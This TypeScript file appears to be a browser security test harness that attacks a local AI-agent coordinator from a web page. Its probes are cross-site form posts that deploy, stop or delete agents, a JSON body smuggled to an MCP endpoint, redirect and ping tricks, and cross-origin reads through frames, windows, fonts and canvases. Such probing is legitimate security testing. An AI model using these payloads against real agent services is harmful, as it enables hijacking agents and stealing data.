/** What pages can do without asking by script: includes, frames, forms, windows and what their headers make a browser send. */

export function armWithElements(): void {
  const { at, add, to, deployment, placed, patience } = globalThis.arsenal;
  const agents = '/api/coordinator/agents';
  const deploy = '/api/coordinator/deploy';
  const make = <K extends keyof HTMLElementTagNameMap>(tag: K, set: object): HTMLElementTagNameMap[K] =>
    Object.assign(document.createElement(tag), set);

  for (const path of ['/favicon.ico', agents]) {
    const name = `image ${path}`;
    add(name, 'reads', async (gain) => {
      const image = make('img', { src: to(path, name) });
      if ((await placed(image)) === 'load') gain(`${image.naturalWidth} x ${image.naturalHeight}`);
    });
  }
  for (const path of ['/', agents, '/openapi.json']) {
    const name = `script ${path}`;
    add(name, 'reads', async (gain) => {
      if ((await placed(make('script', { src: to(path, name) }))) === 'load') gain('ran');
    });
  }
  add('module script', 'reads', async (gain) => {
    const script = make('script', { type: 'module', crossOrigin: 'anonymous', src: to('/', 'module script') });
    if ((await placed(script)) === 'load') gain('ran');
  });
  for (const rel of ['stylesheet', 'preload', 'modulepreload', 'prefetch']) {
    const name = `link ${rel}`;
    add(name, rel === 'stylesheet' ? 'reads' : 'perhaps', async (gain) => {
      const link = make('link', { rel, href: to(agents, name), ...(rel === 'preload' ? { as: 'script' } : {}) });
      if ((await placed(link, document.head)) !== 'load') return;
      gain('loaded');
      gain(link.sheet?.cssRules.length); // Throws where it is another origin's.
    });
  }
  for (const tag of ['video', 'audio'] as const) {
    add(tag, 'perhaps', async (gain) => {
      const media = make(tag, { src: to(agents, tag), preload: 'auto' });
      media.addEventListener('loadedmetadata', () => gain(media.duration));
      await placed(media);
    });
  }
  const looked = (view: Window | null, gain: (what: unknown) => void): void => {
    if (view === null) return;
    if (view.length > 0) gain(`${view.length} frames`);
    const text = view.document.documentElement.textContent; // Throws where the browser sees another origin.
    if (text !== null && text !== '') gain(text);
  };
  for (const path of ['/', agents, '/docs']) {
    const name = `frame of ${path}`;
    add(name, 'perhaps', async (gain) => {
      const frame = make('iframe', { src: to(path, name) });
      await placed(frame);
      looked(frame.contentWindow, gain);
    });
  }
  add('object', 'perhaps', async (gain) => {
    const object = make('object', { type: 'text/html', data: to('/', 'object') });
    await placed(object);
    looked(object.contentWindow, gain);
  });
  for (const path of ['/', agents]) {
    const name = `window of ${path}`;
    add(name, 'perhaps', async (gain) => {
      const opened = window.open(to(path, name));
      await patience();
      try {
        looked(opened, gain);
      } finally {
        opened?.close();
      }
    });
  }
  add('window that is written to', 'perhaps', async (gain) => {
    const opened = window.open(to('/', 'window that is written to'));
    await patience(500);
    opened?.postMessage({ type: 'token' }, '*');
    window.addEventListener('message', ({ source, data }) => void (source === opened && gain(data)));
    await patience();
    opened?.close();
  });

  const sent = (name: string, set: object, fields: Record<string, string>, path = deploy): void =>
    add(name, 'changes', async (gain) => {
      const target = `frame of ${name}`;
      const frame = make('iframe', { name: target });
      await placed(frame);
      const form = make('form', { method: 'POST', action: to(path, name), target, ...set });
      for (const [field, value] of Object.entries(fields)) form.append(make('input', { name: field, value }));
      document.body.append(form);
      form.submit();
      await patience();
      looked(frame.contentWindow, gain);
    });
  sent('form', {}, { agent_type: 'L1', prompt: 'owned' });
  // Its one field makes the body a JSON text.
  const [head = '', tail = ''] = deployment('form as text').split('owned');
  sent('form as text', { enctype: 'text/plain' }, { [`${head}owned`]: tail });
  sent('form of parts', { enctype: 'multipart/form-data' }, { agent_type: 'L1' });
  sent('form that stops an agent', {}, { reason: 'x' }, `${agents}/${at.agentId}/stop`);
  sent('form with another method', {}, { _method: 'DELETE' }, `${agents}/${at.agentId}`);
  sent(
    'form to MCP',
    { enctype: 'text/plain' },
    { '{"jsonrpc":"2.0","id":1,"method":"initialize","x":"': '"}' },
    '/mcp',
  );
  sent('form for the session', {}, { code: 'A'.repeat(43) }, '/api/session');
  add('form that is redirected', 'changes', async () => {
    const to307 = `${at.own}/redirect?status=307&to=${encodeURIComponent(to(deploy, 'form that is redirected'))}`;
    await placed(make('iframe', { name: 'redirected' }));
    const form = make('form', { method: 'POST', action: to307, target: 'redirected' });
    document.body.append(form);
    form.submit();
    await patience();
  });
  add('ping of a link', 'changes', async () => {
    const link = make('a', { href: '#', ping: to(deploy, 'ping of a link') });
    document.body.append(link);
    link.click();
    await patience();
  });
  add('report of a broken policy', 'changes', async () => {
    const report = encodeURIComponent(to(deploy, 'report of a broken policy'));
    await placed(make('iframe', { src: `${at.own}/reports?to=${report}` }));
    await patience();
  });
  add('font', 'perhaps', async (gain) => {
    const font = new FontFace('stolen', `url(${JSON.stringify(to(agents, 'font'))})`);
    await font.load();
    gain(font.status);
  });
  add('image on a canvas', 'reads', async (gain) => {
    const image = make('img', { crossOrigin: 'use-credentials', src: to('/favicon.ico', 'image on a canvas') });
    if ((await placed(image)) !== 'load') return;
    const canvas = make('canvas', { width: 1, height: 1 });
    const context = canvas.getContext('2d');
    context?.drawImage(image, 0, 0);
    gain(canvas.toDataURL());
  });
  for (const kind of ['sandboxed', 'data'] as const) {
    const name = `${kind} frame that fetches and opens a socket`;
    add(name, 'reads', async (gain) => {
      const script = `
        const tell = (what) => parent.postMessage({ by: ${JSON.stringify(name)}, what }, '*');
        fetch(${JSON.stringify(to(agents, name))}, { headers: { authorization: 'Bearer ${at.token}' } })
          .then(async (answer) => tell(answer.status + await answer.text())).catch(() => {});
        const socket = new WebSocket(${JSON.stringify(`${at.ws}/ws/coordinator?ticket=${at.ticket}`)});
        socket.onopen = () => tell('socket opened');`;
      const page = `<script>${script}</scr` + 'ipt>';
      window.addEventListener('message', ({ data }: MessageEvent<{ by?: string; what?: unknown } | null>) => {
        if (data?.by === name) gain(data.what);
      });
      const frame =
        kind === 'data'
          ? make('iframe', { src: `data:text/html,${encodeURIComponent(page)}` })
          : make('iframe', { srcdoc: page });
      if (kind === 'sandboxed') frame.setAttribute('sandbox', 'allow-scripts');
      await placed(frame);
      await patience();
    });
  }
}
